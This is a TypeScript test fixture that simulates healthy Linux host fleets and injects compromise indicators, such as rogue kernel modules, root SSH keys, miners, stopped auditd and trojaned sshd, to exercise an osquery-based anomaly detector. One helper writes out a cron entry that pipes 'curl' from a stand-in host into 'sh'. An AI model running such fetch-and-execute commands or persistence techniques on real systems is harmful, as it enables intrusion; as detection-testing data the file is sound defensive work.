import { type Group, operate } from '../../bench/quality/operations/fleet.ts'
import { builtinPack } from '../../src/osquery/builtin-packs.ts'
import type { Query } from '../../src/osquery/pack.ts'
import type { HostRecord, Row } from '../../src/snapshot/snapshot.ts'
import { fleet, QUERIES } from './fleets.ts'

/** What is done to a host; the tag makes its names different from those of every other tag. */
export type Implant = (host: HostRecord, tag: string) => HostRecord

/** Healthy fleets of one kind, and what can be done to their hosts. */
export interface World {
  readonly name: string
  readonly queries: readonly Query[]
  /** The same seed gives the same fleet. */
  healthy(size: number, seed: number): HostRecord[]
  /** Causes that each say something by themselves. */
  readonly implants: Readonly<Record<string, Implant>>
  /** `count` rows that a role has, in several tables. */
  roleRows(tag: string, count: number): readonly (readonly [query: string, row: Row])[]
  /** A query whose rows may differ on every host, and such a row. */
  readonly noise: readonly [query: string, row: (text: string) => Row]
}

export const withRows = (
  host: HostRecord,
  ...added: readonly (readonly [query: string, row: Row])[]
): HostRecord => {
  const queries = { ...host.queries }
  for (const [name, row] of added) {
    const before = queries[name] ?? { status: 'ok' as const, detail: null, rows: [] }
    queries[name] = { ...before, rows: [...before.rows, row] }
  }
  return { ...host, queries }
}

const editRows = (host: HostRecord, query: string, edit: (rows: readonly Row[]) => Row[]): HostRecord => ({
  ...host,
  queries: { ...host.queries, [query]: { ...host.queries[query]!, rows: edit(host.queries[query]!.rows) } }
})

const program = (path: string, username = 'root'): Row => ({ path, username })
const cron = (tag: string): Row => ({
  path: `/etc/cron.d/${tag}`,
  command: `root curl -s http://203.0.113.9/${tag} | sh`
})

/** Few tables, few rows: what is there is all there is. */
const PLAIN: World = {
  name: 'plain',
  queries: QUERIES,
  healthy: (size, seed) =>
    fleet(size, (index, rows) => {
      if (seed % 2 === 1)
        rows.programs!.push(...[1, 2, 3, 4].map(part => program(`/opt/app-${index % 2}/${part}`, 'app')))
    }),
  implants: {
    kernelModule: (host, tag) => withRows(host, ['modules', { name: tag }]),
    hiddenProgram: (host, tag) =>
      withRows(host, ['programs', program(`/usr/lib/.${tag}/${tag}`)], ['cron', cron(tag)]),
    cronDownload: (host, tag) => withRows(host, ['cron', cron(tag)]),
    port: (host, tag) =>
      withRows(
        host,
        ['ports', { protocol: '6', port: '4444', path: `/tmp/${tag}` }],
        ['programs', program(`/tmp/${tag}`)]
      ),
    stoppedGuard: host => editRows(host, 'guards', () => []),
    trojan: (host, tag) =>
      editRows(host, 'binaries', rows => rows.map(row => ({ ...row, sha256: `${tag}${row.sha256}` })))
  },
  roleRows: (tag, count) =>
    Array.from({ length: count }, (_, part) =>
      part % 3 === 2
        ? (['ports', { protocol: '6', port: String(5000 + part), path: `/opt/${tag}/${part}` }] as const)
        : (['programs', program(`/opt/${tag}/${part}`, 'app')] as const)
    ),
  noise: ['sessions', text => ({ user: text })]
}

const GROUPS: readonly (readonly Group[])[] = [
  [{ role: 'web', share: 1, services: 2 }],
  [
    { role: 'web', share: 3, services: 2 },
    { role: 'db', share: 2, services: 2 }
  ],
  [{ role: 'web', share: 1, services: 3, versions: [2, 1] }]
]

const unit = (tag: string): Row => ({
  id: `${tag}.service`,
  fragment_path: `/etc/systemd/system/${tag}.service`,
  unit_file_state: 'enabled',
  user: '',
  active_state: 'active'
})

/** Fleets of the bench's second generator, seen through the linux pack. */
const OPERATED: World = {
  name: 'operated',
  queries: builtinPack('linux')!.queries,
  healthy: (size, seed) => [
    ...operate(
      {
        name: 'properties',
        hosts: size,
        groups: GROUPS[seed % GROUPS.length]!,
        oddities: seed % 3,
        campaigns: []
      },
      seed
    ).hosts
  ],
  implants: {
    kernelModule: (host, tag) => withRows(host, ['kernel_modules', { name: tag }]),
    rootKey: (host, tag) =>
      withRows(host, ['authorized_keys', { username: 'root', algorithm: 'ssh-rsa', key: tag, options: '' }]),
    setuid: (host, tag) =>
      withRows(host, [
        'setuid_files',
        { path: `/usr/lib/${tag}/${tag}`, username: 'root', groupname: 'root', permissions: 'S' }
      ]),
    cronDownload: (host, tag) => withRows(host, ['crontab', cron(tag)]),
    unit: (host, tag) =>
      withRows(
        host,
        ['systemd_units', unit(tag)],
        ['boot_scripts', { path: `/etc/systemd/system/${tag}.service`, sha256: tag }],
        ['programs', program(`/usr/local/sbin/${tag}`)]
      ),
    memoryProgram: (host, tag) =>
      withRows(host, ['memory_only_programs', { name: tag, path: `/memfd:${tag}`, username: 'root' }]),
    miner: (host, tag) =>
      withRows(
        host,
        ['temporary_programs', program(`/tmp/.${tag}/${tag}`, 'www-data')],
        ['outbound', { path: `/tmp/.${tag}/${tag}`, protocol: '6', remote_port: '3333' }]
      ),
    stoppedAudit: host =>
      editRows(host, 'security_controls', rows =>
        rows.map(row => (row.id === 'auditd.service' ? { ...row, state: 'stopped' } : row))
      ),
    trojan: (host, tag) =>
      editRows(host, 'core_programs', rows =>
        rows.map(row => (row.path === '/usr/sbin/sshd' ? { ...row, sha256: tag } : row))
      )
  },
  roleRows: (tag, count) =>
    Array.from({ length: count }, (_, part) => {
      const path = `/opt/${tag}/bin/${tag}${part}`
      if (part % 3 === 0) return ['programs', program(path, tag)] as const
      if (part % 3 === 1) return ['systemd_units', unit(`${tag}${part}`)] as const
      return ['listening_ports', { protocol: '6', address: '*', port: String(5000 + part), path }] as const
    }),
  noise: ['hidden_files', text => ({ path: `/tmp/.${text}`, type: 'regular' })]
}

export const WORLDS: readonly World[] = [PLAIN, OPERATED]
